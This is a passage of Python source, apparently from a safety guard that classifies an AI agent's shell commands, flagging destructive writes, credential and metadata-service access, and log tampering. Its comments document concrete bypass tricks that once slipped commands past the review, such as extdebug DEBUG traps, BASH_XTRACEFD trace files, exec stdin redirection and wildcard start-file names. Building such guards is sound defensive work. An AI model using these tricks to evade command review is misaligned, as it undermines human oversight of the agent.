            if R.DESTROY_CALL.search(code) and m.group(2).startswith(("/", "~")):
                if self.paths.outside(m.group(2), cwd):
                    self.r.add("destructive", f"{prog} code deletes {m.group(2)}")

    # -- paths -------------------------------------------------------------------------------------

    def scan_word(self, word: str, cwd: str | None, prog: str = "") -> None:
        low = word.lower()
        for pattern, category, why in R.SENSITIVE_PATHS if R.SENSITIVE_HINT.search(low) else ():
            if pattern.search(low):
                if prog in R.SEARCHERS and pattern is R.KEY_FILE_GLOB:
                    continue  # a search for key files: programs.py judges where it searches
                self.r.add(category, f"{why}: {word[:80]}")
                self.r.paths.append(word)
                break
        for host in R.METADATA_HOSTS if "." in low or ":" in low else ():
            if host in low:
                self.r.add("credential", f"reaches the cloud metadata service {host}")
                self.r.hosts.append(host)
        if "$" in word and R.SECRET_VAR_EXPANSION.search(word):
            self.r.add("credential", f"expands a secret variable: {word[:80]}")
        if (word.startswith(("/", "~")) or "/" in word) and not is_dynamic(word):
            self.r.paths.append(self.paths.resolve(word, cwd))

    def written_name(self, target: str, cwd: str | None, why: str) -> None:
        """A file a program writes from data the guard lists (an archive's member, a diff's target, a commit's file):
        judged as a write's target, without counting as a path the command names (the flow check reads those)."""
        ap = self.paths.resolve(target, cwd)
        self.written.setdefault(ap, None)
        low = ap.lower()
        for pattern, category, what in R.WRITE_TARGETS:
            if pattern.search(low) or pattern.search(low + "/"):
                self.r.add(category, f"{why} ({what})")
                return
        if self.paths.outside(target, cwd):
            self.r.add("destructive", f"{why}, outside the workspace")

    def write_target(self, target: str, cwd: str | None, why: str) -> None:
        if any(ch in target for ch in "*?[") and not is_dynamic(target):  # `cp x .bash?c` (guard20)
            head, pattern = posixpath.split(target)
            literal = re.split(r"[*?\[]", pattern)[0]  # a start-up name spelt with a wildcard or two, not `*.py`
            for name in R.START_FILES if len(literal) >= 2 else ():
                if fnmatch.fnmatchcase(name, pattern):
                    self.write_target(posixpath.join(head, name), cwd, f"{why} (the glob {pattern} may pick {name})")
        ap = self.paths.resolve(target, cwd)
        self.r.paths.append(ap)
        self.written.setdefault(ap, None)  # a redirect with literal text replaces this with the text
        low = ap.lower()
        for pattern, category, what in R.WRITE_TARGETS:
            if pattern.search(low) or pattern.search(low + "/"):  # a directory made or replaced whole (.git/hooks)
                self.r.add(category, f"{why} ({what})")
                return
        if is_dynamic(target) and self.exact and not (cwd and is_dynamic(cwd)) and (
                known_all := session.candidates(target, self.exact)) is not None:  # `T=out.txt` a step before (guard25)
            for known in known_all:
                if known:
                    self.write_target(known, cwd, f"{why} ({target[:40]} is {known[:60]})")
            return
        if is_dynamic(target) or cwd and is_dynamic(cwd) and not target.startswith(("/", "~")):  # `cd -; rm *`
            self.r.add("dynamic", f"writes to a path only known at run time: {target[:80]}")
            if (known := session.substitute(target, self.line_vars)) is not None:  # `T=.bashrc` a step before
                self.write_target(known, cwd, f"{why} ({target[:40]} is {known[:60]})")
        elif self.paths.outside(target, cwd):
            self.r.add("destructive", f"{why}, outside the workspace")

    def destroy(self, target: str, cwd: str | None, why: str) -> None:
        ap = self.paths.resolve(target, cwd)
        self.r.paths.append(ap)
        low = ap.lower()
        if R.TAMPER_PATH.search(low):
            self.r.add("tamper", f"{why}: deletes or wipes logs or shell history")
            return
        if is_dynamic(target) or cwd and is_dynamic(cwd) and not target.startswith(("/", "~")):
            self.r.add("dynamic", f"{why}: the path is only known when the command runs")
        elif self.paths.outside(target, cwd) or ap.startswith("/dev/"):
            self.r.add("destructive", f"{why}: outside the workspace")


_PROC_DIRS = ("/proc/", "/dev/")  # whose paths name another process's view on the host than in the sandbox
# guard32: `shopt -s extdebug; trap '[[ $BASH_COMMAND != cd* ]]' DEBUG`, then `cd d; sh s.sh` skipped the cd and
# ran ./s.sh where the review read d/s.sh (also `bash --debugger`, `-O extdebug`, BASHOPTS); a line that turns it on
# for a `declare -F` and off again is ordinary (a trap set a step before, or in a function, would not show on it)
EXTDEBUG = ("extdebug (shopt -s extdebug, bash --debugger) lets a DEBUG trap skip the command after it, so a later "
            "line may not run what its review read (a skipped cd); leave it off")
_EXTDEBUG = lazyre.compile(r"\bextdebug\b|--debugger\b")
_EXTDEBUG_LOOK = lazyre.compile(r"shopt\s+-s\s+extdebug\s*;\s*(?:declare|typeset)\s+-[fF]+(?:\s+[\w.-]+)*"
                            r"(?:\s*[12]?>\s*/dev/null)?\s*;\s*shopt\s+-u\s+extdebug\s*;?")
_BASH_TABLES = lazyre.compile(r"(?<![${!\w])BASH_(CMDS|ALIASES)\b")
# guard36: bash writes its trace of every later command (`set -x`, PS4 first) to the descriptor BASH_XTRACEFD names:
# a file opened on it gets text no review reads, written as a later line runs (`exec 3> s.sh; BASH_XTRACEFD=3;
# PS4=' sh run.sh #'`, then `set -x; sh s.sh` ran run.sh: the trace of `sh s.sh` was s.sh's text when sh read it). The
# name is read with quotes and backslashes removed (`declare "BASH_XTRACE""FD=4"`), not after `$`/`{`/`!` (a read)
_XTRACE_FD = lazyre.compile(r"(?<![${!\w])BASH_XTRACEFD\b")
XTRACE_FD = ("the line names BASH_XTRACEFD: bash then writes its trace of later commands (set -x) into that "
             "descriptor, so a file it holds gets text no review reads; leave the trace on stderr")
# guard31: `exec 0<&3; sh` (or `exec < run.sh; bash`): the shell's own input for the rest of the step is a file, so a
# later shell or interpreter with no script reads its code from it (the parse loses the descriptor's number)
_EXEC_STDIN = lazyre.compile(r"(?<![\w.-])exec((?:[ \t]+[^\s;&|<>]+)*?)[ \t]*(?<![1-9])0?(?:<&|<>|<)(?!<)")


def analyze(command: str, workspaces: list[str], allowed_paths: list[str] | None = None,
            cwd: str | None = None, remotes: set[str] | None = None, path_dirs: list[str] | None = None,
            jobs: tuple[int, int] = (0, 0), py_dirs: list[str] | None = None, values: Values | None = None,
            shell: tuple[dict[str, str], list[str]] | None = None, since: float | None = None,
            builds: list[Any] | None = None, strings: dict[str, str] | None = None,
            exact: dict[str, frozenset[str]] | None = None, home_is_workspace: bool = True) -> Analysis:
    """Classify what ``command`` would do when run in ``cwd`` (default: the first of ``workspaces``).

    The shell session persists between steps, so ``cd /etc`` in one step and ``rm -rf *`` in the next
    must be judged from ``/etc``: the guard passes the directory the last observation reported.
    ``home_is_workspace``: the shell's HOME is the workspace (the agent's bash; a desktop's programs have their own)."""
    result = Analysis()
    # the home is the workspace (envs.workspace._clean_env) unless an earlier step of this shell may have set HOME
    paths = PathJudge(workspaces, allowed_paths if allowed_paths is not None else ["/tmp", "/var/tmp"],
                      home=workspaces[0] if home_is_workspace and workspaces and "HOME" not in (strings or {}) else None)
    paths.since, paths.builds = since, builds or []  # files there before the run; programs builds made (safety.native)
    start = None if not cwd or cwd in paths.workspaces else posixpath.normpath(cwd)
    analyzer = Analyzer(paths, result)
    analyzer.new_remotes = remotes if remotes is not None else set()  # git remotes added by earlier steps and this line
    analyzer.jobs, analyzer.detached = jobs  # processes earlier steps left running, and those `wait` cannot end
    if path_dirs is not None:  # directories earlier steps put on PATH; the ones this line adds are added to it
        analyzer.path_dirs = path_dirs
    if py_dirs is not None:  # the same for PYTHONPATH (safety.envvars)
        analyzer.py_dirs = py_dirs
    analyzer.values = values if values is not None else analyzer.values  # what the session's variables may hold
    analyzer.session_names = frozenset(analyzer.values.deps)  # names earlier steps set (safety.filewords)
    if strings is not None:  # literal values earlier steps gave variables; this line's top-level ones update them
        analyzer.session_vars = strings
        logical = strings.get(LOGICAL_PWD)
        here = posixpath.normpath(cwd or paths.workspaces[0]) if paths.workspaces else None
        if logical and here is not None and paths.resolve(logical, None) == here:
            start = logical  # bash's $PWD, through the link the shell's `cd` took (logical_pwd)
        elif logical and here not in paths.workspaces:  # the link now leads elsewhere: bash's $PWD is not the
            start = "$PWD_THROUGH_A_LINK"  # kernel's folder, nor where the link leads (a new shell starts at the top)
    analyzer.exact = exact or {}
    if shell is not None:  # functions and traps earlier steps defined; the ones this line defines are added
        analyzer.functions, analyzer.hooks = shell
        replay(analyzer, start)
    if strings:  # commands earlier steps left in variables (a pager, an editor, git's): judged where they may run
        from macrohard.safety.envvars import replay_kept

        replay_kept(analyzer, dict(strings), start)
    if len(command) > scripts.MAX_SCRIPT:  # the walk's time grows with the line: review a script's size, no more
        result.add("unparseable", f"the command is {len(command) // 1000} kB, larger than the "
                                  f"{scripts.MAX_SCRIPT // 1000} kB the guard reviews: write long text with "
                                  "write_file and run shorter commands")
        return result
    try:
        with watching() as pipes:  # files a reader met that are pipes or devices: not read, so not judged
            analyzer.line(command, cwd=start)
            if analyzer.hooks:  # a trap runs around the line's later commands too, after the files it wrote
                replay(analyzer, start)
    except RecursionError:
        result.add("unparseable", "the command nests deeper than the guard follows (subshells, substitutions or "
                                  "blocks inside each other): split it into steps or a script")
        return result
    if pipes:  # a finding keeps its first detail
        result.add("dynamic", f"{pipes[0]} is a named pipe or a device: what the command reads from it is only "
                              "known when it runs")
    return result

